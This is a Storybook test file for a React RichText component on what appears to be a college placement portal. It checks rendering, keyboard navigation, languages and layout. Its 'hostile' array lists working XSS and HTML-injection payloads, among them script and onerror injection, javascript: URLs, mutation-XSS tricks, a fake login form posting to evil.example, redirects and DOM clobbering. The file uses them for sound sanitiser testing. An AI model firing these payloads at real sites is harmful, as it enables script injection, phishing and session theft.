import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, fn } from 'storybook/test';
import { browserUser } from '../../testing/browserInput.ts';
import { hydrate } from '../../testing/hydrate.tsx';
import { stayOnPage } from '../../testing/stayOnPage.ts';
import { allowedTags } from './allowList.ts';
import { RichText } from './index.ts';

const meta = {
  title: 'Content/RichText',
  component: RichText,
  args: {
    html: `<h3>CV freeze on 30 November</h3>
<p>Finish your <strong>CV</strong> before the freeze. It is copied into <em>each</em> application:</p>
<ul><li>projects</li><li>marks, with the <a href="/profile">mark sheet</a></li></ul>
<blockquote>Late changes are not seen by employers.</blockquote>
<p>Rules: <a href="https://college.example/placement">placement cell</a></p>`,
  },
} satisfies Meta<typeof RichText>;

export default meta;
type Story = StoryObj<typeof meta>;

/** The content's own markup, without the component around it. */
const content = (canvasElement: HTMLElement): string =>
  canvasElement.querySelector('[data-component="RichText"]')?.innerHTML ?? '';

/** What a payload did: scripts mark the window, requests show in the list of what the page loaded. */
const marks = (): unknown => Reflect.get(window, 'hostile');

/** Paths of the portal go through its router, other sites show their name first. */
export const Default: Story = {
  play: async ({ canvas }) => {
    await expect(canvas.getByRole('heading', { name: 'CV freeze on 30 November', level: 3 })).toBeVisible();
    await expect(canvas.getByRole('link', { name: 'mark sheet' })).toHaveAttribute('href', '/profile');
    const outside = canvas.getByRole('link', { name: 'placement cell (opens college.example)' });
    await expect(outside).toHaveAttribute('rel', 'noopener noreferrer nofollow');
    await expect(canvas.getAllByRole('listitem')).toHaveLength(2);
  },
};

const followed = fn<(link: string | null) => void>();

/** Tab goes from link to link, Enter follows. */
export const Keyboard: Story = {
  beforeEach: ({ canvasElement }) => stayOnPage(canvasElement, followed),
  play: async ({ canvas }) => {
    const user = await browserUser();
    followed.mockClear();
    await user.tab();
    await expect(canvas.getByRole('link', { name: 'mark sheet' })).toHaveFocus();
    await user.keyboard('{Enter}');
    await expect(followed.mock.calls).toEqual([['mark sheet']]);
    await user.tab();
    await expect(canvas.getByRole('link', { name: /placement cell/ })).toHaveFocus();
  },
};

export const Playground: Story = {};

const hostile = [
  '<script>window.hostile=1</script>after',
  '<img src=x onerror="window.hostile=2">',
  '<svg><script>window.hostile=3</script><a href="javascript:window.hostile=3">x</a></svg>',
  '<a href="javascript:window.hostile=4">click</a>',
  '<a href=" jav&#x09;ascript:window.hostile=5">click</a>',
  '<iframe srcdoc="<script>parent.hostile=6</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hostile=7">',
  '<noscript><p title="</noscript><img src=x onerror=window.hostile=8>">',
  '<form action="https://evil.example"><input name=password autofocus onfocus="window.hostile=9"><button>Log in</button></form>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/a.png)" class="x" id="root" onclick="window.hostile=10">overlay</p>',
  '<template><img src=x onerror="window.hostile=11"></template>',
  '<object data="javascript:window.hostile=12"></object><embed src="javascript:window.hostile=12">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/a.css">',
  '<a href="https://portal.example@evil.example/">bank</a><a href="data:text/html,x">data</a><a href="https://evil.example/x">https</a>',
  '<details open ontoggle="window.hostile=13"><summary>x</summary>y</details>',
  '<style>@import "https://evil.example/b.css"; body{display:none}</style><title>gone</title>',
  '<b><table><tr><td><i>crossed</b></i>',
  '<a id=location name=body href=/ok>clobber</a>',
];

/** Whatever is in it, only the allowed elements and attributes come out; nothing runs and nothing is loaded. */
export const Hostile: Story = {
  render: () => (
    <>
      {hostile.map((html) => (
        <RichText key={html} html={html} />
      ))}
    </>
  ),
  play: async ({ canvasElement, canvas }) => {
    const elements = [...canvasElement.querySelectorAll('[data-component="RichText"] *')];
    const ours = new Set(['class', 'href', 'rel', 'lang', 'dir']);
    await expect(elements.filter(({ localName }) => !allowedTags.has(localName))).toEqual([]);
    await expect(
      elements.flatMap((element) => element.getAttributeNames()).filter((name) => !ours.has(name)),
    ).toEqual([]);
    await expect(canvas.getAllByRole('link').map((link) => link.getAttribute('href'))).toEqual([
      'https://evil.example/x',
      '/ok',
    ]);
    await expect(canvas.getByText(/^overlay$/)).toBeVisible();
    await expect(canvas.getByRole('link', { name: 'https (opens evil.example)' })).toBeVisible();
    await expect(marks()).toBeUndefined();
    const loaded = performance
      .getEntriesByType('resource')
      .filter(({ name }) => name.includes('evil.example'));
    await expect(loaded).toEqual([]);
  },
};

/** Thousands of nested elements neither hang the page nor break it. */
export const DeepAndLong: Story = {
  tags: ['!dev', '!autodocs'],
  args: { html: '<ul><li>x'.repeat(3000) },
  play: async ({ canvasElement }) => {
    const depth = (element: Element | null): number => (element ? 1 + depth(element.firstElementChild) : 0);
    await expect(depth(canvasElement.querySelector('[data-component="RichText"]'))).toBeLessThan(60);
    await expect(content(canvasElement).length).toBeLessThan(40_000);
  },
};

/** Entities, unclosed tags and texts that look like markup. */
export const Plain: Story = {
  args: { html: 'a &lt;b&gt; &amp; c &nbsp; &#x20B9;500 <p>open <b>tags' },
  play: async ({ canvasElement }) => {
    await expect(canvasElement.textContent?.replace(/\s+/g, ' ')).toContain('a <b> & c ₹500 open tags');
  },
};

/** Headings take the place in the outline where the text stands. */
export const HeadingLevels: Story = {
  args: { html: '<h3>One</h3><h4>Two</h4>', headingLevel: 4 },
  render: (args) => (
    <>
      <h3>Notifications</h3>
      <RichText {...args} />
    </>
  ),
  play: async ({ canvas }) => {
    await expect(canvas.getByRole('heading', { name: 'Two', level: 5 })).toBeVisible();
  },
};

/** Texts keep their own language and direction. */
export const Languages: Story = {
  args: {
    html: '<p lang="hi">सीवी ३० नवंबर को बंद होगी</p><p lang="ur" dir="rtl">سی وی</p><p lang="x" dir="up">plain</p>',
  },
  play: async ({ canvas }) => {
    await expect(canvas.getByText('سی وی')).toHaveAttribute('dir', 'rtl');
    await expect(canvas.getByText('سی وی')).toHaveAttribute('lang', 'ur');
    await expect(canvas.getByText('plain')).not.toHaveAttribute('dir');
  },
};

export const Phone: Story = {
  args: { html: `<p>${'averyveryverylongword'.repeat(10)}</p>` },
  globals: { viewport: { value: 'w320' } },
  play: async () => {
    await expect(document.documentElement.scrollWidth).toBeLessThanOrEqual(320);
  },
};

/** Everything that is allowed. */
export const States: Story = {
  args: {
    html: `<h3>Heading</h3><p>Text with <b>bold</b>, <strong>strong</strong>, <i>italic</i>, <em>emphasis</em>,
<u>underlined</u>, <s>struck</s>, <code>code</code> and <span lang="hi">हिन्दी</span>.<br>A new line.</p>
<h4>Lists</h4><ul><li>one</li><li>two</li></ul><ol><li>first</li><li>second</li></ol>
<blockquote>A quotation.</blockquote>
<p><a href="/profile">A page here</a> and <a href="https://college.example/rules">one elsewhere</a></p>`,
  },
};

export const ServerRender: Story = {
  tags: ['!dev', '!autodocs'],
  play: async ({ args }) => {
    const { errors } = await hydrate(<RichText {...args} />);
    await expect(errors).toEqual([]);
  },
};
